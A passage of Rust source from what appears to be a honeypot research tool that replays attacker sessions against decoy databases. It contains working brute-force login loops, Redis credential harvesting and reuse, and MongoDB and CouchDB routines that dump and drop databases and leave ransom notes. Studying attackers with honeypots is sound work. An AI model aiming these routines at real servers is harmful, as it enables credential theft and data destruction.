//! Network mode: execute a planned session against a live honeypot.
//!
//! The driver opens real TCP connections, announces the simulated actor's
//! source address with a PROXY v1 header (exactly what a honeypot behind a
//! TCP load balancer sees), and speaks the target's wire protocol using the
//! client codecs from `decoy-wire`. Responses are read and — like real
//! attack scripts — drive control flow (e.g. a failed PostgreSQL login
//! aborts the Kinsing injection).

use decoy_agents::schedule::PlannedSession;
use decoy_agents::scripts::{self, CampaignParams, SessionScript};
use decoy_base::json::{self, Value};
use decoy_net::framed::Framed;
use decoy_net::proxy;
use decoy_store::foreign;
use decoy_wire::codec::Codec;
use decoy_wire::mongo::bson::{doc, Bson, Document};
use decoy_wire::mongo::{MongoBody, MongoCodec, MongoMessage};
use decoy_wire::{http, mysql, pgwire, resp, tds};
use std::net::{IpAddr, SocketAddr};
use std::time::Duration;
use tokio::io::AsyncWriteExt;
use tokio::net::TcpStream;

/// Hard ceiling on one planned session; a backstop only — burst loops
/// self-limit via [`BURST_BUDGET`] so cancellation never lands between a
/// `connect()` and its PROXY header (which would log a loopback artifact).
const SESSION_DEADLINE: Duration = Duration::from_secs(120);

/// Budget for multi-connection bursts; on expiry the burst stops cleanly at
/// a connection boundary.
const BURST_BUDGET: Duration = Duration::from_secs(45);

/// What happened while executing one planned session.
#[derive(Debug, Clone, Copy, Default, PartialEq, Eq)]
pub struct SessionOutcome {
    /// TCP connections opened.
    pub connections: usize,
    /// Exchanges that ended in an I/O or protocol error.
    pub errors: usize,
}

/// Execute `session` against the honeypot listening at `addr`.
pub async fn run_session(addr: SocketAddr, session: &PlannedSession) -> SessionOutcome {
    match tokio::time::timeout(SESSION_DEADLINE, dispatch(addr, session)).await {
        Ok(outcome) => outcome,
        Err(_) => SessionOutcome {
            connections: 1,
            errors: 1,
        },
    }
}

async fn dispatch(addr: SocketAddr, session: &PlannedSession) -> SessionOutcome {
    let src = SocketAddr::new(
        IpAddr::V4(session.src),
        40_000 + (session.ts.as_millis() % 20_000) as u16,
    );
    let params = CampaignParams::derive(u64::from(u32::from(session.src)));
    match &session.script {
        SessionScript::ConnectOnly => connect_only(addr, src).await,
        SessionScript::MysqlBrute { creds } => mysql_brute(addr, src, creds).await,
        SessionScript::MssqlBrute { creds } => mssql_brute(addr, src, creds).await,
        SessionScript::PgBrute { creds } => pg_brute(addr, src, creds).await,
        SessionScript::PgLogin {
            user,
            password,
            repeats,
        } => {
            let creds = vec![(user.clone(), password.clone()); (*repeats).max(1) as usize];
            pg_brute(addr, src, &creds).await
        }
        SessionScript::RedisAuth { passwords } => redis_auth(addr, src, passwords).await,
        SessionScript::RedisScout { type_walk } => redis_scout(addr, src, *type_walk).await,
        SessionScript::ElasticScout { deep } => elastic_scout(addr, src, *deep).await,
        SessionScript::MongoScout { deep } => mongo_scout(addr, src, *deep).await,
        SessionScript::PgScout => pg_session(addr, src, &["SELECT version();".to_string()]).await,
        SessionScript::P2pInfect => {
            redis_campaign(addr, src, scripts::p2pinfect_commands(&params)).await
        }
        SessionScript::AbcBot => redis_campaign(addr, src, scripts::abcbot_commands(&params)).await,
        SessionScript::RedisCve20220543 => {
            redis_campaign(addr, src, scripts::redis_cve_commands()).await
        }
        SessionScript::Kinsing => pg_session(addr, src, &scripts::kinsing_queries(&params)).await,
        SessionScript::PgPrivilege => {
            pg_session(addr, src, &scripts::pg_privilege_queries(&params)).await
        }
        SessionScript::Lucifer => lucifer(addr, src, &params).await,
        SessionScript::MongoRansom { group } => mongo_ransom(addr, src, *group, &params).await,
        SessionScript::HarvestAndReuse => harvest_and_reuse(addr, src).await,
        SessionScript::CouchScout => couch_scout(addr, src).await,
        SessionScript::CouchRansom => couch_ransom(addr, src, &params).await,
        SessionScript::MysqlScout => mysql_scout(addr, src).await,
        SessionScript::RdpProbe => {
            raw_probe(addr, src, &foreign::rdp_connection_request("Administr")).await
        }
        SessionScript::JdwpProbe => raw_probe(addr, src, &foreign::jdwp_handshake()).await,
        SessionScript::VmwareRecon => {
            let body = foreign::vmware_soap_body();
            http_probe(addr, src, "POST", "/sdk", "text/xml", body.as_bytes()).await
        }
        SessionScript::CraftCms => {
            let body = foreign::craftcms_probe_body();
            http_probe(
                addr,
                src,
                "POST",
                "/index.php?p=admin/actions/conditions/render",
                "application/x-www-form-urlencoded",
                body.as_bytes(),
            )
            .await
        }
        SessionScript::FingerprintProbe => fingerprint_probe(addr, src, session.target.dbms).await,
    }
}

/// The scanner side of the fingerprinting arms race: grab the banner,
/// cross-check an advertised capability, and elicit one error-catalog
/// response — the abbreviated network shape of the `decoy-fingerprint`
/// probe battery.
async fn fingerprint_probe(
    addr: SocketAddr,
    src: SocketAddr,
    dbms: decoy_store::Dbms,
) -> SessionOutcome {
    use decoy_store::Dbms;
    match dbms {
        Dbms::Redis => {
            let Ok(mut framed) = redis_connect(addr, src).await else {
                return err_outcome(1);
            };
            let run = async {
                redis_exchange(&mut framed, &["INFO".to_string(), "server".to_string()]).await?;
                redis_exchange(
                    &mut framed,
                    &["FINGERPRINTPROBE".to_string(), "arg".to_string()],
                )
                .await?;
                Ok::<(), std::io::Error>(())
            };
            match run.await {
                Ok(()) => ok_outcome(1),
                Err(_) => err_outcome(1),
            }
        }
        Dbms::Postgres => {
            pg_session(
                addr,
                src,
                &[
                    "SELECT version();".to_string(),
                    "FROBNICATE the catalog".to_string(),
                ],
            )
            .await
        }
        Dbms::MySql => mysql_fingerprint(addr, src).await,
        Dbms::MongoDb => {
            let Ok(mut framed) = mongo_connect(addr, src).await else {
                return err_outcome(1);
            };
            let mut rid = 0i32;
            let run = async {
                mongo_command(
                    &mut framed,
                    &mut rid,
                    doc! { "isMaster" => 1i32, "$db" => "admin" },
                )
                .await?;
                mongo_command(
                    &mut framed,
                    &mut rid,
                    doc! { "buildInfo" => 1i32, "$db" => "admin" },
                )
                .await?;
                mongo_command(
                    &mut framed,
                    &mut rid,
                    doc! { "fingerprintProbe" => 1i32, "$db" => "admin" },
                )
                .await?;
                Ok::<(), std::io::Error>(())
            };
            match run.await {
                Ok(()) => ok_outcome(1),
                Err(_) => err_outcome(1),
            }
        }
        Dbms::Elastic => {
            let Ok(mut framed) = connect(addr, src, http::HttpClientCodec).await else {
                return err_outcome(1);
            };
            let run = async {
                http_request(&mut framed, http::HttpRequest::new("GET", "/")).await?;
                http_request(
                    &mut framed,
                    http::HttpRequest::new("GET", "/fingerprint_probe_missing"),
                )
                .await?;
                Ok::<(), std::io::Error>(())
            };
            match run.await {
                Ok(()) => ok_outcome(1),
                Err(_) => err_outcome(1),
            }
        }
        Dbms::CouchDb => {
            let Ok(mut framed) = connect(addr, src, http::HttpClientCodec).await else {
                return err_outcome(1);
            };
            let run = async {
                http_request(&mut framed, http::HttpRequest::new("GET", "/")).await?;
                http_request(
                    &mut framed,
                    http::HttpRequest::new("GET", "/fingerprint_probe_missing_db"),
                )
                .await?;
                Ok::<(), std::io::Error>(())
            };
            match run.await {
                Ok(()) => ok_outcome(1),
                Err(_) => err_outcome(1),
            }
        }
        // no fingerprint client for the remaining protocols: banner-grab only
        _ => connect_only(addr, src).await,
    }
}

/// MySQL fingerprinting: greeting facts, a version cross-check, and one
/// deliberate parse error.
async fn mysql_fingerprint(addr: SocketAddr, src: SocketAddr) -> SessionOutcome {
    let run = async {
        let mut framed = connect(addr, src, mysql::MySqlCodec).await?;
        let greeting = framed
            .read_frame()
            .await
            .map_err(io_err)?
            .ok_or_else(|| io_err_msg("no greeting"))?;
        mysql::Greeting::parse(&greeting.payload).map_err(io_err)?;
        framed
            .write_frame(&mysql::MySqlPacket {
                seq: greeting.seq.wrapping_add(1),
                payload: mysql::LoginRequest::cleartext("root", "root", None).build(),
            })
            .await
            .map_err(io_err)?;
        let reply = framed
            .read_frame()
            .await
            .map_err(io_err)?
            .ok_or_else(|| io_err_msg("no auth reply"))?;
        if reply.payload.first() == Some(&0x00) {
            let mut q = vec![0x03];
            q.extend_from_slice(b"SELECT @@version");
            framed
                .write_frame(&mysql::MySqlPacket {
                    seq: 0,
                    payload: q.into(),
                })
                .await
                .map_err(io_err)?;
            for _ in 0..5 {
                framed
                    .read_frame()
                    .await
                    .map_err(io_err)?
                    .ok_or_else(|| io_err_msg("result truncated"))?;
            }
            // the error-catalog probe: gibberish SQL, one ERR packet back
            let mut bad = vec![0x03];
            bad.extend_from_slice(b"FINGERPRINT PROBE");
            framed
                .write_frame(&mysql::MySqlPacket {
                    seq: 0,
                    payload: bad.into(),
                })
                .await
                .map_err(io_err)?;
            framed
                .read_frame()
                .await
                .map_err(io_err)?
                .ok_or_else(|| io_err_msg("no error reply"))?;
        }
        Ok::<(), std::io::Error>(())
    };
    match run.await {
        Ok(()) => ok_outcome(1),
        Err(_) => err_outcome(1),
    }
}

/// Open a connection and send the PROXY header announcing `src`.
async fn connect<C: Codec>(
    addr: SocketAddr,
    src: SocketAddr,
    codec: C,
) -> std::io::Result<Framed<TcpStream, C>> {
    let mut stream = TcpStream::connect(addr).await?;
    let header = proxy::encode_v1(src, addr);
    stream.write_all(header.as_bytes()).await?;
    Ok(Framed::new(stream, codec))
}

fn ok_outcome(connections: usize) -> SessionOutcome {
    SessionOutcome {
        connections,
        errors: 0,
    }
}

fn err_outcome(connections: usize) -> SessionOutcome {
    SessionOutcome {
        connections,
        errors: 1,
    }
}

async fn connect_only(addr: SocketAddr, src: SocketAddr) -> SessionOutcome {
    match connect(addr, src, decoy_wire::codec::RawCodec).await {
        Ok(framed) => {
            // Give the honeypot a moment to register the session before the
            // FIN races the PROXY header.
            let (mut stream, _) = framed.into_parts();
            let _ = stream.flush().await;
            drop(stream);
            ok_outcome(1)
        }
        Err(_) => err_outcome(1),
    }
}

async fn raw_probe(addr: SocketAddr, src: SocketAddr, payload: &[u8]) -> SessionOutcome {
    match connect(addr, src, decoy_wire::codec::RawCodec).await {
        Ok(mut framed) => {
            if framed.write_raw(payload).await.is_err() {
                return err_outcome(1);
            }
            // probes wait briefly for any banner/error, then leave
            let _ = tokio::time::timeout(Duration::from_millis(200), framed.read_frame()).await;
            ok_outcome(1)
        }
        Err(_) => err_outcome(1),
    }
}

async fn mysql_brute(
    addr: SocketAddr,
    src: SocketAddr,
    creds: &[(String, String)],
) -> SessionOutcome {
    let mut outcome = SessionOutcome::default();
    let started = std::time::Instant::now();
    for (user, password) in creds {
        if started.elapsed() > BURST_BUDGET {
            break;
        }
        outcome.connections += 1;
        let attempt = async {
            let mut framed = connect(addr, src, mysql::MySqlCodec).await?;
            let greeting = framed
                .read_frame()
                .await
                .map_err(io_err)?
                .ok_or_else(|| io_err_msg("no greeting"))?;
            mysql::Greeting::parse(&greeting.payload).map_err(io_err)?;
            let login = mysql::LoginRequest::cleartext(user, password, None);
            framed
                .write_frame(&mysql::MySqlPacket {
                    seq: greeting.seq.wrapping_add(1),
                    payload: login.build(),
                })
                .await
                .map_err(io_err)?;
            let _reply = framed.read_frame().await.map_err(io_err)?;
            Ok::<(), std::io::Error>(())
        };
        if attempt.await.is_err() {
            outcome.errors += 1;
        }
    }
    outcome
}

async fn mssql_brute(
    addr: SocketAddr,
    src: SocketAddr,
    creds: &[(String, String)],
) -> SessionOutcome {
    let mut outcome = SessionOutcome::default();
    let started = std::time::Instant::now();
    for (user, password) in creds {
        if started.elapsed() > BURST_BUDGET {
            break;
        }
        outcome.connections += 1;
        let attempt = async {
            let mut framed = connect(addr, src, tds::TdsCodec).await?;
            framed
                .write_frame(&tds::TdsPacket::eom(
                    tds::PKT_PRELOGIN,
                    tds::build_prelogin(&[
                        (0x00, vec![15, 0, 0, 0, 0, 0].into()),
                        (0x01, vec![2].into()),
                    ]),
                ))
                .await
                .map_err(io_err)?;
            framed.read_frame().await.map_err(io_err)?;
            let login = tds::Login7 {
                hostname: "WIN-SCAN".into(),
                username: user.clone(),
                password: password.clone(),
                appname: "OSQL-32".into(),
                servername: addr.ip().to_string(),
                database: String::new(),
            };
            framed
                .write_frame(&tds::TdsPacket::eom(tds::PKT_LOGIN7, login.build()))
                .await
                .map_err(io_err)?;
            framed.read_frame().await.map_err(io_err)?;
            Ok::<(), std::io::Error>(())
        };
        if attempt.await.is_err() {
            outcome.errors += 1;
        }
    }
    outcome
}

/// One PostgreSQL login exchange; returns the framed connection when the
/// server accepted the password.
async fn pg_login_once(
    addr: SocketAddr,
    src: SocketAddr,
    user: &str,
    password: &str,
) -> std::io::Result<Option<Framed<TcpStream, pgwire::PgClientCodec>>> {
    let mut framed = connect(addr, src, pgwire::PgClientCodec::new()).await?;
    framed
        .write_frame(&pgwire::FrontendMessage::Startup {
            params: vec![
                ("user".into(), user.to_string()),
                ("database".into(), "postgres".into()),
            ],
        })
        .await
        .map_err(io_err)?;
    loop {
        let msg = framed
            .read_frame()
            .await
            .map_err(io_err)?
            .ok_or_else(|| io_err_msg("server closed during auth"))?;
        match msg {
            pgwire::BackendMessage::AuthenticationCleartextPassword
            | pgwire::BackendMessage::AuthenticationMd5Password { .. } => {
                framed
                    .write_frame(&pgwire::FrontendMessage::Password(password.to_string()))
                    .await
                    .map_err(io_err)?;
            }
            pgwire::BackendMessage::AuthenticationOk => {
                // drain until ReadyForQuery
                loop {
                    match framed.read_frame().await.map_err(io_err)? {
                        Some(pgwire::BackendMessage::ReadyForQuery { .. }) => {
                            return Ok(Some(framed))
                        }
                        Some(_) => continue,
                        None => return Ok(None),
                    }
                }
            }
            pgwire::BackendMessage::ErrorResponse { .. } => return Ok(None),
            _ => continue,
        }
    }
}

async fn pg_brute(addr: SocketAddr, src: SocketAddr, creds: &[(String, String)]) -> SessionOutcome {
    let mut outcome = SessionOutcome::default();
    let started = std::time::Instant::now();
    for (user, password) in creds {
        if started.elapsed() > BURST_BUDGET {
            break;
        }
        outcome.connections += 1;
        match pg_login_once(addr, src, user, password).await {
            Ok(Some(mut framed)) => {
                let _ = framed
                    .write_frame(&pgwire::FrontendMessage::Terminate)
                    .await;
            }
            Ok(None) => {}
            Err(_) => outcome.errors += 1,
        }
    }
    outcome
}

/// Log in and run `queries`, reading each response to completion.
async fn pg_session(addr: SocketAddr, src: SocketAddr, queries: &[String]) -> SessionOutcome {
    let login = pg_login_once(addr, src, "postgres", "postgres").await;
    let mut framed = match login {
        Ok(Some(f)) => f,
        Ok(None) => return ok_outcome(1), // rejected (login-disabled config)
        Err(_) => return err_outcome(1),
    };
    for q in queries {
        if framed
            .write_frame(&pgwire::FrontendMessage::Query(q.clone()))
            .await
            .is_err()
        {
            return err_outcome(1);
        }
        loop {
            match framed.read_frame().await {
                Ok(Some(pgwire::BackendMessage::ReadyForQuery { .. })) => break,
                Ok(Some(_)) => continue,
                Ok(None) | Err(_) => return err_outcome(1),
            }
        }
    }
    let _ = framed
        .write_frame(&pgwire::FrontendMessage::Terminate)
        .await;
    ok_outcome(1)
}

async fn redis_connect(
    addr: SocketAddr,
    src: SocketAddr,
) -> std::io::Result<Framed<TcpStream, resp::RespCodec>> {
    connect(addr, src, resp::RespCodec::client()).await
}

async fn redis_exchange(
    framed: &mut Framed<TcpStream, resp::RespCodec>,
    parts: &[String],
) -> Result<resp::RespValue, std::io::Error> {
    let cmd = resp::RespValue::Array(
        parts
            .iter()
            .map(|p| resp::RespValue::Bulk(p.clone().into_bytes().into()))
            .collect(),
    );
    framed.write_frame(&cmd).await.map_err(io_err)?;
    framed
        .read_frame()
        .await
        .map_err(io_err)?
        .ok_or_else(|| io_err_msg("server closed"))
}

async fn redis_auth(addr: SocketAddr, src: SocketAddr, passwords: &[String]) -> SessionOutcome {
    let Ok(mut framed) = redis_connect(addr, src).await else {
        return err_outcome(1);
    };
    for pw in passwords {
        if redis_exchange(&mut framed, &["AUTH".to_string(), pw.clone()])
            .await
            .is_err()
        {
            return err_outcome(1);
        }
    }
    ok_outcome(1)
}

async fn redis_scout(addr: SocketAddr, src: SocketAddr, type_walk: bool) -> SessionOutcome {
    let Ok(mut framed) = redis_connect(addr, src).await else {
        return err_outcome(1);
    };
    let run = async {
        redis_exchange(&mut framed, &["INFO".to_string()]).await?;
        redis_exchange(&mut framed, &["DBSIZE".to_string()]).await?;
        let keys = redis_exchange(&mut framed, &["KEYS".to_string(), "*".to_string()]).await?;
        if type_walk {
            if let resp::RespValue::Array(items) = keys {
                for item in items {
                    if let Some(key) = item.as_text() {
                        redis_exchange(&mut framed, &["TYPE".to_string(), key]).await?;
                    }
                }
            }
        }
        Ok::<(), std::io::Error>(())
    };
    match run.await {
        Ok(()) => ok_outcome(1),
        Err(_) => err_outcome(1),
    }
}

/// KEYS * → GET each entry (harvest) → AUTH with harvested passwords.
async fn harvest_and_reuse(addr: SocketAddr, src: SocketAddr) -> SessionOutcome {
    let Ok(mut framed) = redis_connect(addr, src).await else {
        return err_outcome(1);
    };
    let run = async {
        let keys = redis_exchange(&mut framed, &["KEYS".to_string(), "*".to_string()]).await?;
        let mut harvested: Vec<String> = Vec::new();
        if let resp::RespValue::Array(items) = keys {
            for item in items.into_iter().take(8) {
                let Some(key) = item.as_text() else { continue };
                let value = redis_exchange(&mut framed, &["GET".to_string(), key.clone()]).await?;
                if let resp::RespValue::Bulk(bytes) = value {
                    harvested.push(String::from_utf8_lossy(&bytes).into_owned());
                }
            }
        }
        for password in harvested.into_iter().take(4) {
            redis_exchange(&mut framed, &["AUTH".to_string(), password]).await?;
        }
        Ok::<(), std::io::Error>(())
    };
    match run.await {
        Ok(()) => ok_outcome(1),
        Err(_) => err_outcome(1),
    }
}

async fn redis_campaign(
    addr: SocketAddr,
    src: SocketAddr,
    commands: Vec<Vec<String>>,
) -> SessionOutcome {
    let Ok(mut framed) = redis_connect(addr, src).await else {
        return err_outcome(1);
    };
    for cmd in commands {
        // campaign scripts ignore errors and push on, like the bots do
        if redis_exchange(&mut framed, &cmd).await.is_err() {
            return err_outcome(1);
        }
    }
    ok_outcome(1)
}

async fn http_request(
    framed: &mut Framed<TcpStream, http::HttpClientCodec>,
    req: http::HttpRequest,
) -> Result<http::HttpResponse, std::io::Error> {
    framed.write_frame(&req).await.map_err(io_err)?;
    framed
        .read_frame()
        .await
        .map_err(io_err)?
        .ok_or_else(|| io_err_msg("server closed"))
}

async fn elastic_scout(addr: SocketAddr, src: SocketAddr, deep: bool) -> SessionOutcome {
    let Ok(mut framed) = connect(addr, src, http::HttpClientCodec).await else {
        return err_outcome(1);
    };
    let run = async {
        http_request(&mut framed, http::HttpRequest::new("GET", "/")).await?;
        http_request(
            &mut framed,
            http::HttpRequest::new("GET", "/_cluster/health"),
        )
        .await?;
        http_request(&mut framed, http::HttpRequest::new("GET", "/_nodes")).await?;
        if deep {
            http_request(
                &mut framed,
                http::HttpRequest::new("GET", "/_cat/indices?v"),
            )
            .await?;
            http_request(
                &mut framed,
                http::HttpRequest::new("POST", "/_search")
                    .with_body("application/json", r#"{"query":{"match_all":{}}}"#),
            )
            .await?;
        }
        Ok::<(), std::io::Error>(())
    };
    match run.await {
        Ok(()) => ok_outcome(1),
        Err(_) => err_outcome(1),
    }
}

/// The database names in a CouchDB `_all_dbs` listing (none when the body
/// is no JSON array).
fn db_names(listing: &[u8]) -> Vec<String> {
    let listing = json::parse(listing).unwrap_or_default();
    let names = listing.as_array().unwrap_or_default().iter();
    names
        .filter_map(Value::as_str)
        .map(str::to_string)
        .collect()
}

async fn couch_scout(addr: SocketAddr, src: SocketAddr) -> SessionOutcome {
    let Ok(mut framed) = connect(addr, src, http::HttpClientCodec).await else {
        return err_outcome(1);
    };
    let run = async {
        http_request(&mut framed, http::HttpRequest::new("GET", "/")).await?;
        let dbs = http_request(&mut framed, http::HttpRequest::new("GET", "/_all_dbs")).await?;
        for db in db_names(&dbs.body).into_iter().take(4) {
            http_request(
                &mut framed,
                http::HttpRequest::new("GET", &format!("/{db}/_all_docs")),
            )
            .await?;
        }
        Ok::<(), std::io::Error>(())
    };
    match run.await {
        Ok(()) => ok_outcome(1),
        Err(_) => err_outcome(1),
    }
}

async fn couch_ransom(
    addr: SocketAddr,
    src: SocketAddr,
    params: &CampaignParams,
) -> SessionOutcome {
    let Ok(mut framed) = connect(addr, src, http::HttpClientCodec).await else {
        return err_outcome(1);
    };
    let run = async {
        let dbs = http_request(&mut framed, http::HttpRequest::new("GET", "/_all_dbs")).await?;
        for db in db_names(&dbs.body).into_iter().filter(|d| d != "warning") {
            http_request(
                &mut framed,
                http::HttpRequest::new("GET", &format!("/{db}/_all_docs")),
            )
            .await?;
            http_request(
                &mut framed,
                http::HttpRequest::new("DELETE", &format!("/{db}")),
            )
            .await?;
        }
        let note = scripts::ransom_note(0, &params.hash_hex()[..8]);
        http_request(
            &mut framed,
            http::HttpRequest::new("PUT", "/warning/readme").with_body(
                "application/json",
                json::object([("note", note.into())]).to_string(),
            ),
        )
        .await?;
        Ok::<(), std::io::Error>(())
    };
    match run.await {
        Ok(()) => ok_outcome(1),
        Err(_) => err_outcome(1),
    }
}

async fn mysql_scout(addr: SocketAddr, src: SocketAddr) -> SessionOutcome {
    let run = async {
        let mut framed = connect(addr, src, mysql::MySqlCodec).await?;
        let greeting = framed
            .read_frame()
            .await
            .map_err(io_err)?
            .ok_or_else(|| io_err_msg("no greeting"))?;
        mysql::Greeting::parse(&greeting.payload).map_err(io_err)?;
        framed
            .write_frame(&mysql::MySqlPacket {
                seq: greeting.seq.wrapping_add(1),
                payload: mysql::LoginRequest::cleartext("root", "root", None).build(),
            })
            .await
            .map_err(io_err)?;
        let reply = framed
            .read_frame()
            .await
            .map_err(io_err)?
            .ok_or_else(|| io_err_msg("no auth reply"))?;
        if reply.payload.first() == Some(&0x00) {
            // accepted (medium honeypot): run the recon queries
            for sql in ["SELECT @@version", "SHOW DATABASES"] {
                let mut q = vec![0x03];
                q.extend_from_slice(sql.as_bytes());
                framed
                    .write_frame(&mysql::MySqlPacket {
                        seq: 0,
                        payload: q.into(),
                    })
                    .await
                    .map_err(io_err)?;
                // drain the 5-packet result set
                for _ in 0..5 {
                    framed
                        .read_frame()
                        .await
                        .map_err(io_err)?
                        .ok_or_else(|| io_err_msg("result truncated"))?;
                }
            }
            let _ = framed
                .write_frame(&mysql::MySqlPacket {
                    seq: 0,
                    payload: vec![0x01].into(),
                })
                .await;
        }
        Ok::<(), std::io::Error>(())
    };
    match run.await {
        Ok(()) => ok_outcome(1),
        Err(_) => err_outcome(1),
    }
}

async fn http_probe(
    addr: SocketAddr,
    src: SocketAddr,
    method: &str,
    target: &str,
    content_type: &str,
    body: &[u8],
) -> SessionOutcome {
    let Ok(mut framed) = connect(addr, src, http::HttpClientCodec).await else {
        return err_outcome(1);
    };
    let req = http::HttpRequest::new(method, target).with_body(content_type, body.to_vec());
    match http_request(&mut framed, req).await {
        Ok(_) => ok_outcome(1),
        Err(_) => err_outcome(1),
    }
}

async fn lucifer(addr: SocketAddr, src: SocketAddr, params: &CampaignParams) -> SessionOutcome {
    let Ok(mut framed) = connect(addr, src, http::HttpClientCodec).await else {
        return err_outcome(1);
    };
    let mut bodies = vec![scripts::lucifer_search_body(params)];
    for stage in scripts::lucifer_shell_stages(params) {
        bodies.push(format!(
            r#"{{"script_fields":{{"exp":{{"script":"{}"}}}}}}"#,
            stage.replace('"', "\\\"")
        ));
    }
    for body in bodies {
        let req = http::HttpRequest::new("POST", "/_search").with_body("application/json", body);
        if http_request(&mut framed, req).await.is_err() {
            return err_outcome(1);
        }
    }
    ok_outcome(1)
}

async fn mongo_connect(
    addr: SocketAddr,
    src: SocketAddr,
) -> std::io::Result<Framed<TcpStream, MongoCodec>> {
    connect(addr, src, MongoCodec).await
}

async fn mongo_command(
    framed: &mut Framed<TcpStream, MongoCodec>,
    request_id: &mut i32,
    cmd: Document,
) -> Result<Document, std::io::Error> {
    *request_id += 1;
    framed
        .write_frame(&MongoMessage::msg(*request_id, cmd))
        .await
        .map_err(io_err)?;
    let reply = framed
        .read_frame()
        .await
        .map_err(io_err)?
        .ok_or_else(|| io_err_msg("server closed"))?;
    match reply.body {
        MongoBody::Msg { doc, .. } => Ok(doc),
        _ => Err(io_err_msg("unexpected reply opcode")),
    }
}

async fn mongo_scout(addr: SocketAddr, src: SocketAddr, deep: bool) -> SessionOutcome {
    let Ok(mut framed) = mongo_connect(addr, src).await else {
        return err_outcome(1);
    };
    let mut rid = 0;
    let run = async {
        mongo_command(
            &mut framed,
            &mut rid,
            doc! { "isMaster" => 1i32, "$db" => "admin" },
        )
        .await?;
        mongo_command(
            &mut framed,
            &mut rid,
            doc! { "buildInfo" => 1i32, "$db" => "admin" },
        )
        .await?;
        if deep {
            let dbs = mongo_command(
                &mut framed,
                &mut rid,
                doc! { "listDatabases" => 1i32, "$db" => "admin" },
            )
            .await?;
            for name in database_names(&dbs) {
                mongo_command(
                    &mut framed,
                    &mut rid,
                    doc! { "listCollections" => 1i32, "$db" => name },
                )
                .await?;
            }
        }
        Ok::<(), std::io::Error>(())
    };
    match run.await {
        Ok(()) => ok_outcome(1),
        Err(_) => err_outcome(1),
    }
}

async fn mongo_ransom(
    addr: SocketAddr,
    src: SocketAddr,
    group: u8,
    params: &CampaignParams,
) -> SessionOutcome {
    let Ok(mut framed) = mongo_connect(addr, src).await else {
        return err_outcome(1);
    };
    let mut rid = 0;
    let run = async {
        mongo_command(
            &mut framed,
            &mut rid,
            doc! { "isMaster" => 1i32, "$db" => "admin" },
        )
        .await?;
        let dbs = mongo_command(
            &mut framed,
            &mut rid,
            doc! { "listDatabases" => 1i32, "$db" => "admin" },
        )
        .await?;
        let mut victims = Vec::new();
        for name in database_names(&dbs) {
            if name == "admin" || name == "local" || name == "config" {
                continue;
            }
            victims.push(name);
        }
        for db in &victims {
            let colls = mongo_command(
                &mut framed,
                &mut rid,
                doc! { "listCollections" => 1i32, "$db" => db.as_str() },
            )
            .await?;
            for coll in collection_names(&colls) {
                // exfiltrate, then destroy — table by table (§6.3)
                mongo_command(
                    &mut framed,
                    &mut rid,
                    doc! { "find" => coll.as_str(), "$db" => db.as_str(), "limit" => 0i32 },
                )
                .await?;
                mongo_command(
                    &mut framed,
                    &mut rid,
                    doc! { "drop" => coll.as_str(), "$db" => db.as_str() },
                )
                .await?;
            }
            let note = scripts::ransom_note(group, &params.hash_hex()[..8]);
            mongo_command(
                &mut framed,
                &mut rid,
                doc! {
                    "insert" => "README",
                    "$db" => db.as_str(),
                    "documents" => vec![Bson::Document(doc! { "content" => note })],
                },
            )
            .await?;
        }
        Ok::<(), std::io::Error>(())
    };
    match run.await {
        Ok(()) => ok_outcome(1),
        Err(_) => err_outcome(1),
    }
}

fn database_names(reply: &Document) -> Vec<String> {
    reply
        .get("databases")
        .and_then(Bson::as_array)
        .map(|arr| {
            arr.iter()
                .filter_map(|d| d.as_doc().and_then(|d| d.get_str("name")).map(String::from))
                .collect()
        })
        .unwrap_or_default()
}

fn collection_names(reply: &Document) -> Vec<String> {
    reply
        .get_doc("cursor")
        .and_then(|c| c.get("firstBatch"))
        .and_then(Bson::as_array)
        .map(|arr| {
            arr.iter()
                .filter_map(|d| d.as_doc().and_then(|d| d.get_str("name")).map(String::from))
                .collect()
        })
        .unwrap_or_default()
}

fn io_err<E: std::fmt::Display>(e: E) -> std::io::Error {
    std::io::Error::other(e.to_string())
}

fn io_err_msg(msg: &str) -> std::io::Error {
    std::io::Error::other(msg)
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::deploy::{spawn, HoneypotSpec};
    use decoy_base::time::{Clock, EXPERIMENT_START};
    use decoy_store::{ConfigVariant, Dbms, EventKind, EventStore, HoneypotId, InteractionLevel};
    use std::net::Ipv4Addr;
    use std::sync::Arc;

    fn planned(src: Ipv4Addr, script: SessionScript) -> PlannedSession {
        PlannedSession {
            ts: EXPERIMENT_START,
            actor_idx: 0,
            src,
            target: decoy_agents::actors::TargetSelector::low_multi(Dbms::Redis),
            script,
        }
    }

    async fn run_against(
        id: HoneypotId,
        script: SessionScript,
    ) -> (Arc<EventStore>, SessionOutcome) {
        let store = EventStore::new();
        let spec = HoneypotSpec::loopback(id, Clock::simulated(), 11);
        let hp = spawn(store.clone(), spec).await.unwrap();
        let session = planned(Ipv4Addr::new(60, 5, 0, 77), script);
        let outcome = run_session(hp.addr(), &session).await;
        // let the last session's events land
        tokio::time::sleep(Duration::from_millis(150)).await;
        hp.shutdown().await;
        (store, outcome)
    }

    fn low(dbms: Dbms) -> HoneypotId {
        HoneypotId::new(dbms, InteractionLevel::Low, ConfigVariant::MultiService, 0)
    }

    fn med(dbms: Dbms, config: ConfigVariant) -> HoneypotId {
        HoneypotId::new(dbms, InteractionLevel::Medium, config, 0)
    }

    #[test]
    fn db_names_reads_an_all_dbs_listing() {
        assert_eq!(
            db_names(br#"["customers", 7, "warning"]"#),
            ["customers", "warning"]
        );
        assert!(db_names(br#"{"error":"not_found"}"#).is_empty());
        assert!(db_names(b"[\"unterminated").is_empty());
    }

    #[tokio::test]
    async fn mssql_brute_is_captured_with_proxy_source() {
        let creds = vec![
            ("sa".to_string(), "123".to_string()),
            ("sa".to_string(), "123456".to_string()),
        ];
        let (store, outcome) =
            run_against(low(Dbms::Mssql), SessionScript::MssqlBrute { creds }).await;
        assert_eq!(
            outcome,
            SessionOutcome {
                connections: 2,
                errors: 0
            }
        );
        let logins = store.filter(|e| matches!(e.kind, EventKind::LoginAttempt { .. }));
        assert_eq!(logins.len(), 2);
        assert!(logins
            .iter()
            .all(|e| e.src == IpAddr::V4(Ipv4Addr::new(60, 5, 0, 77))));
    }

    #[tokio::test]
    async fn mysql_brute_roundtrip() {
        let creds = vec![("root".to_string(), "aaaaaa".to_string())];
        let (store, outcome) =
            run_against(low(Dbms::MySql), SessionScript::MysqlBrute { creds }).await;
        assert_eq!(outcome.errors, 0);
        let logins = store.filter(|e| {
            matches!(&e.kind, EventKind::LoginAttempt { username, password, .. }
                if username == "root" && password == "aaaaaa")
        });
